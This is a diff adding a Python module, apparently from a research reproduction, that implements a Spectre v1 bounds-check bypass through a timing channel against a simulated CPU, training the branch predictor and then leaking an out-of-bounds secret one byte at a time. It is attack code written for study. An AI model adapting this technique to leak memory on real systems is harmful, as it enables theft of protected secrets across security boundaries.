@@ -1,0 +1,117 @@
+"""TET-Spectre-V1 (extension): bounds-check bypass through the TET channel.
+
+The paper demonstrates TET with Meltdown-class faults, MDS assists and
+RSB misprediction; the obvious fourth speculation primitive is the
+original Spectre v1 window -- a bounds check whose length operand was
+flushed to DRAM resolves late, and the branch predictor (trained on
+in-bounds accesses) transiently runs the out-of-bounds access.  Inside
+that window the usual secret-keyed Jcc does the talking: a match
+mispredicts into a nop sled, inflating the wrong-path drain the bounds
+redirect must perform -- argmax decoding, like TET-RSB.
+
+This composes two *branch* speculations (the outer v1 window, the inner
+TET Jcc) with no fault anywhere, so like TET-RSB it needs no TSX and no
+signal handler and works on every simulated CPU.
+"""
+
+from __future__ import annotations
+
+from typing import Optional, Sequence
+
+from repro.whisper.analysis import ArgExtremeDecoder, ByteScanResult
+from repro.whisper.attacks.meltdown import LeakResult
+from repro.whisper.gadgets import GadgetBuilder
+
+
+class TetSpectreV1:
+    """The TET-V1 attack bound to one machine."""
+
+    def __init__(
+        self,
+        machine,
+        batches: int = 1,
+        sled: int = 24,
+        values: Sequence[int] = range(256),
+        train_runs: int = 2,
+    ) -> None:
+        self.machine = machine
+        self.batches = batches
+        self.values = list(values)
+        self.train_runs = train_runs
+        self.builder = GadgetBuilder(machine)
+        self.program = self.builder.spectre_v1(sled=sled)
+        self.decoder = ArgExtremeDecoder("max")
+        # The sandboxed array: one page of attacker-space data the
+        # bounds check architecturally protects...
+        self.array_va = machine.alloc_data()
+        self.array_len = 64
+        # ...and the secret sits right past it, in the protected zone.
+        self.secret_va = machine.alloc_data()
+        self.length_va = machine.alloc_data()
+        machine.write_data(self.length_va, self.array_len.to_bytes(8, "little"))
+        machine.write_data(self.array_va, bytes(range(self.array_len)))
+        self._secret = b""
+        self._warmed = False
+
+    def install_secret(self, secret: bytes) -> None:
+        """Place the out-of-bounds secret."""
+        self._secret = bytes(secret)
+        self.machine.write_data(self.secret_va, self._secret)
+
+    def _oob_index(self, byte_index: int) -> int:
+        """Index that lands on secret byte *byte_index* (past the array)."""
+        return (self.secret_va + byte_index) - self.array_va
+
+    def _run(self, index: int, test: int):
+        return self.machine.run(
+            self.program,
+            regs={
+                "r10": self.array_va,
+                "r11": self.length_va,
+                "rdi": index,
+                "r9": test,
+            },
+        )
+
+    def _train_in_bounds(self) -> None:
+        """Legitimate accesses: train the bounds branch to fall through."""
+        for run in range(self.train_runs):
+            self._run(run % self.array_len, 256)
+
+    def scan_byte(self, byte_index: int) -> ByteScanResult:
+        """Leak secret byte *byte_index* through the v1 window."""
+        if not self._warmed:
+            for _ in range(4):
+                self._train_in_bounds()
+            # One architectural-ish touch keeps the secret line cache-hot
+            # (the victim uses its own data; here the transient load's
+            # first pass warms it).
+            self._run(self._oob_index(0), 256)
+            self._warmed = True
+        index = self._oob_index(byte_index)
+        totes = {test: [] for test in self.values}
+        for _ in range(self.batches):
+            for test in self.values:
+                self._train_in_bounds()
+                result = self._run(index, test)
+                totes[test].append(result.regs.read("r15") - result.regs.read("r14"))
+        return self.decoder.decode(totes)
+
+    def leak(self, length: Optional[int] = None) -> LeakResult:
+        """Leak *length* bytes of the out-of-bounds secret."""
+        if not self._secret:
+            raise RuntimeError("no secret installed; call install_secret")
+        if length is None:
+            length = len(self._secret)
+        start_cycle = self.machine.core.global_cycle
+        scans = [self.scan_byte(index) for index in range(length)]
+        cycles = self.machine.core.global_cycle - start_cycle
+        seconds = self.machine.seconds(cycles)
+        return LeakResult(
+            data=bytes(scan.value for scan in scans),
+            expected=self._secret[:length],
+            cycles=cycles,
+            seconds=seconds,
+            bytes_per_second=length / seconds if seconds else float("inf"),
+            scans=scans,
+        )
